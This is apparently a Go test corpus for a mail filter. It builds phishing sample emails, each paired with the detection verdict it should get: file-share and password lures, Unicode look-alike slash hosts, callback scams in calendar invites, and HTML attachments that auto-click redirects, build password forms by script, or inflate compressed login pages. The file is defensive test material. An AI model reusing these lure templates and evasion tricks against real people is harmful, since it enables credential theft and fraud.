package corpus

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"

	"github.com/kensa-milter/kensa/policy"
)

// lureGapSamples are the lures last session's reviews left open (a share
// lure whose button is a free site or form, a mailbox or password lure to
// a stranger's domain) and the honest mail beside them.
func lureGapSamples() []Sample {
	bad := func(name, about string, action policy.Action, wants ...Want) Sample {
		return Sample{Name: name, About: about, Action: action, Want: wants}
	}
	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	page := func(from, subject, htmlBody string) mail {
		return mail{from: from, subject: subject, root: multipart("alternative", text("Please view this message in HTML.\n"), html(htmlBody))}
	}

	// --- Share lures whose button is a free site or form ---
	add(bad("share-lure-google-site", "a shared-file lure whose Open button is a Google Site", policy.Quarantine,
		w("heuristic", "document-share-lure", "2"), w("heuristic", "free-hosting-lure", "2")),
		page("Kenji Sato <kenji.sato.share@gmail.com>", `Kenji shared "Q4 Payroll.xlsx" with you`,
			`<p>Kenji Sato shared a file with you.</p><p><a href="https://sites.google.com/view/q4-payroll-share/home">Open</a></p>`))
	add(bad("share-lure-form-fax", "a fax lure whose button is a Microsoft Form, and a secure-message lure to a Canva site", policy.Quarantine,
		w("heuristic", "document-share-lure", "2"), w("heuristic", "free-hosting-lure", "2")),
		page("Fax Service <fax@efax-notify.invalid>", "Fax received: 3 pages",
			`<p>Fax received: 3 pages from +1 808 555 0199.</p><p><a href="https://forms.office.com/r/Xk4h8Qw2Lm">Open fax</a></p>`+
				`<p>You also have a secure message: <a href="https://securemsg-7f3a.my.canva.site/">Read the message</a></p>`))
	add(bad("share-lure-wix-german", "a German signature request whose button is a Wix site", policy.Quarantine,
		w("heuristic", "document-share-lure", "2"), w("heuristic", "free-hosting-lure", "2")),
		page("Vertrag <vertrag@signatur-service.invalid>", "Dokument zur Unterschrift",
			`<p>Bitte prüfen und unterschreiben Sie den Vertrag.</p><p><a href="https://vertrag-7f3a.wixsite.com/doc">Dokument öffnen</a></p>`))
	add(ok("share-google-sites-notice", "Google's own notice that a site was shared, its Open button on sites.google.com"),
		page("Kenji Sato (via Google Sites) <sites-noreply@google.com>", `Kenji Sato shared "Q4 team site" with you`,
			`<p>Kenji Sato shared a file with you: Q4 team site.</p><p><a href="https://sites.google.com/view/q4-team-site/home">Open</a></p>`))

	// --- Mailbox and password lures to a stranger's domain ---
	add(bad("account-lure-keep-password", "a password-expiry lure whose Keep my password button goes to a stranger's domain: no brand, no free hosting", policy.Tag,
		w("heuristic", "account-lure-link", "2")),
		page("IT Helpdesk <it@helpdesk-mail.invalid>", "Password expiry notice",
			`<p>Your password expires today. To keep your current password, use the button below.</p><p><a href="https://mail-keep.example.org/owa/">Keep my password</a></p>`))
	add(bad("account-lure-mailbox-dutch", "a Dutch mailbox-full lure with one link to a stranger's domain", policy.Tag,
		w("heuristic", "account-lure-link", "2")),
		page("Postmaster <postmaster@mail-notice.invalid>", "Melding",
			`<p>Uw mailbox is vol. Nieuwe berichten worden geweigerd.</p><p><a href="https://opslag-vergroten.example.net/x">Opslag vergroten</a></p>`))
	add(ok("account-password-company-portal", "an IT desk's password-expiry notice linking the company's identity provider (Okta) and Microsoft's password reset"),
		page("IT Helpdesk <it@corp-helpdesk.invalid>", "Your password expires in 5 days",
			`<p>Your password expires in 5 days. Change it in <a href="https://corp.okta.com/enduser/settings">Okta</a> or at <a href="https://passwordreset.microsoftonline.com/">Microsoft's password reset</a>.</p>`))
	// --- Hosts written with a look-alike slash ---
	add(bad("url-fraction-slash-host", "a link whose host is the sign-in domain, fraction slashes (U+2044), then the attacker's domain: Chromium goes to the attacker's; its text shows the same", policy.Quarantine,
		w("heuristic", "slash-lookalike-host", "2")),
		page("Account security <account-security@mail-notice.invalid>", "Unusual sign-in activity",
			"<p>We detected unusual sign-in activity. Review it at <a href=\"https://login.microsoftonline.com\u2044common\u2044oauth2.auth-7f3a.example.net/authorize\">"+
				"https://login.microsoftonline.com\u2044common\u2044oauth2/authorize</a></p>"))
	add(bad("url-division-slash-text", "a plain-text mail whose address writes a division slash (U+2215) after the brand's domain", policy.Quarantine,
		w("heuristic", "slash-lookalike-host", "1")),
		mail{from: "Accounts <accounts@confirm-notice.invalid>", subject: "Your account", root: text("Confirm your account at https://www.paypal.com\u2215signin.confirm-7f3a.example.net/webapps now.\n")})
	add(ok("url-japanese-katakana-host", "a Japanese shop's link to a domain of katakana (ノート) and a recipe with a fraction slash (1⁄2 cup) in its text"),
		page("ノート店 <info@note-shop.example.jp>", "ノートのご案内",
			"<p>新しいノートは <a href=\"https://\u30ce\u30fc\u30c8.example.jp/new\">\u30ce\u30fc\u30c8.example.jp</a> をご覧ください。小麦粉 1\u20442 カップ。</p>"))

	// --- A page pako inflates (the library bundled in the page, here a
	// stand-in that inflates nothing: scriptBuiltCases proves the same
	// class in Chromium with its own DecompressionStream) ---
	add(bad("html-phish-pako-inflate", "HTML attachment whose login page is zlib data in base64 that pako inflates and document.write writes", policy.Quarantine,
		w("heuristic", "html-credential-form", "2")),
		mail{from: "Accounts <accounts@remit-notice.invalid>", subject: "Remittance advice", root: multipart("mixed", text("Your remittance advice is attached.\n"),
			attach("text/html", "Remittance_Advice.html", []byte("<html><head><script>/*! pako 2.1.0, a stand-in of the bundled library */ var pako = {inflate: function (d, o) { return \"\"; }};</script></head><body>\r\n<script>\r\n"+
				"var d = Uint8Array.from(atob(\""+base64.StdEncoding.EncodeToString(zlibbed(writtenLogin))+"\"), function (c) { return c.charCodeAt(0); });\r\n"+
				"document.write(pako.inflate(d, {to: \"string\"}));\r\n</script></body></html>\r\n")))})

	// --- Calendars: Outlook's HTML description, meeting codes ---
	invite := func(lines ...string) node {
		return node{ctype: "text/calendar; method=REQUEST; charset=utf-8", cte: "8bit", body: []byte(icsEvent(lines...))}
	}
	add(bad("ics-altdesc-callback", "callback phishing only in an invitation's HTML description (X-ALT-DESC, which Outlook shows), its plain DESCRIPTION empty", policy.Quarantine,
		w("heuristic", "callback-phishing", "2/ics/event.txt")),
		mail{from: "Subscriptions <billing.desk2026@gmail.com>", subject: "Invoice NT-88412", root: multipart("alternative", text("\n"),
			invite("SUMMARY:Invoice NT-88412", "DESCRIPTION:", `X-ALT-DESC;FMTTYPE=text/html:<html><body><p>Norton 360 Deluxe</p><p>Your annual subscription was renewed. Amount charged: $399.99</p><p>If you did not authorize this charge\, call our billing desk to cancel: <b>+1 (808) 555-0199</b></p></body></html>`))})
	add(bad("ics-callback-meeting-id", "callback phishing in an invitation whose number has a meeting ID and passcode beside it, as a dial-in has, but no conference linked", policy.Quarantine,
		w("heuristic", "callback-phishing", "2/ics/event.txt")),
		mail{from: "Subscriptions <billing.desk2026@gmail.com>", subject: "Invoice NT-88412", root: multipart("alternative", text("\n"),
			invite("SUMMARY:Norton 360 Deluxe - subscription renewed", `DESCRIPTION:Your annual subscription was renewed. Amount charged: $399.99\nIf you did not authorize this charge\, call our billing desk to cancel: +1 (808) 555-0199\,\,123456#\nMeeting ID: 123456\nPasscode: 884211`))})
	add(ok("ics-teams-altdesc", "Outlook's Teams invitation with its HTML description: a renewal invoice on the agenda, the join link and the dial-in with its conference ID"),
		mail{from: "Jo <jo@reseller.example.com>", subject: "Licence renewal review", root: multipart("alternative", text("Microsoft Teams meeting\n"),
			invite("SUMMARY:Microsoft 365 licence renewal review", "DESCRIPTION:Microsoft Teams meeting",
				`X-ALT-DESC;FMTTYPE=text/html:<html><body><p>Agenda: the licence renewal invoice of $12\,400.00 was charged\; decide whether to cancel unused seats.</p><p><a href="https://teams.microsoft.com/l/meetup-join/19%3ameeting_def%40thread.v2/0">Click here to join the meeting</a></p><p>Meeting ID: 391 225 804 117<br>Passcode: Qp4mZ8</p><p>Or call in (audio only)<br><a href="tel:+13235550101,,415226903#">+1 323-555-0101\,\,415226903#</a> United States\, Los Angeles<br>Phone Conference ID: 415 226 903#</p></body></html>`))})
	return out
}

// scriptBuiltCases are HTML attachments whose script builds what a kit
// would write as markup: a link it clicks itself, a login form with a
// password field made by createElement, and a login page it inflates
// from gzip with Chromium's DecompressionStream.
func scriptBuiltCases() []officeCase {
	return []officeCase{
		htmlCase("html-redirect-script-click", "HTML attachment whose script makes a link to a remote page and sends it a mouse click event (dispatchEvent, not click()), no location set",
			"Document_4471.html", "<html><body><p>Opening your document...</p>\r\n<script>\r\nvar a = document.createElement(\"a\");\r\n"+
				"a.href = \"https://landing.example.net/doc/?id=4471\";\r\ndocument.body.appendChild(a);\r\na.dispatchEvent(new MouseEvent(\"click\", {bubbles: true, cancelable: true, view: window}));\r\n</script></body></html>\r\n", "html-redirect-attachment"),
		htmlCase("html-redirect-markup-click-id", "HTML attachment with a hidden link to a remote page in its markup that its script finds by id and clicks (getElementById(...).click()), no location set",
			"Document_4471.html", "<html><body><p>Opening your document...</p>\r\n<a id=\"go\" href=\"https://landing.example.net/doc/?id=4471\" style=\"display:none\">open</a>\r\n"+
				"<script>\r\ndocument.getElementById(\"go\").click();\r\n</script></body></html>\r\n", "html-redirect-attachment"),
		htmlCase("html-redirect-markup-click-selector", "HTML attachment whose markup link to a remote page its script picks by selector into a variable and clicks half a second after opening (querySelector(\"a.next\"))",
			"Invoice_5520.html", "<html><body><p>Loading invoice...</p>\r\n<a class=\"btn next\" href=\"https://landing.example.net/inv/?id=5520\"></a>\r\n"+
				"<script>\r\nsetTimeout(function () {\r\n  var link = document.querySelector(\"a.next\");\r\n  link.click();\r\n}, 500);\r\n</script></body></html>\r\n", "html-redirect-attachment"),
		htmlCase("html-phish-password-by-script", "HTML attachment whose script builds its login form with createElement: the password field and the remote action are nowhere in its markup",
			"Secure_Message.html", "<html><body><h3>Confirm your mailbox</h3><div id=\"box\"></div>\r\n<script>\r\n"+
				"var f = document.createElement(\"form\");\r\nf.method = \"post\";\r\nf.action = \""+phishTarget+"\";\r\n"+
				"var u = document.createElement(\"input\");\r\nu.type = \"email\";\r\nu.name = \"u\";\r\nf.appendChild(u);\r\n"+
				"var p = document.createElement(\"input\");\r\np.setAttribute(\"type\", \"password\");\r\np.name = \"p\";\r\nf.appendChild(p);\r\n"+
				"var b = document.createElement(\"button\");\r\nb.textContent = \"Sign in\";\r\nf.appendChild(b);\r\n"+
				"document.getElementById(\"box\").appendChild(f);\r\n</script></body></html>\r\n", "html-credential-form"),
		htmlCase("html-phish-gzip-decompressionstream", "HTML attachment that inflates its login page from gzip in base64 with Chromium's DecompressionStream and puts it on the page",
			"Payment_Advice.html", "<html><body><p>Loading...</p>\r\n<script>\r\nvar z = Uint8Array.from(atob(\""+base64.StdEncoding.EncodeToString(gzipped(writtenLogin))+"\"), function (c) { return c.charCodeAt(0); });\r\n"+
				"new Response(new Blob([z]).stream().pipeThrough(new DecompressionStream(\"gzip\"))).text().then(function (h) { document.body.innerHTML = h; });\r\n</script></body></html>\r\n", "html-credential-form"),
	}
}

// gzipped is s compressed by gzip, and zlibbed by zlib, as a page's
// script inflates them.
func gzipped(s string) []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	z.Write([]byte(s))
	z.Close()
	return b.Bytes()
}

func zlibbed(s string) []byte {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	z.Write([]byte(s))
	z.Close()
	return b.Bytes()
}
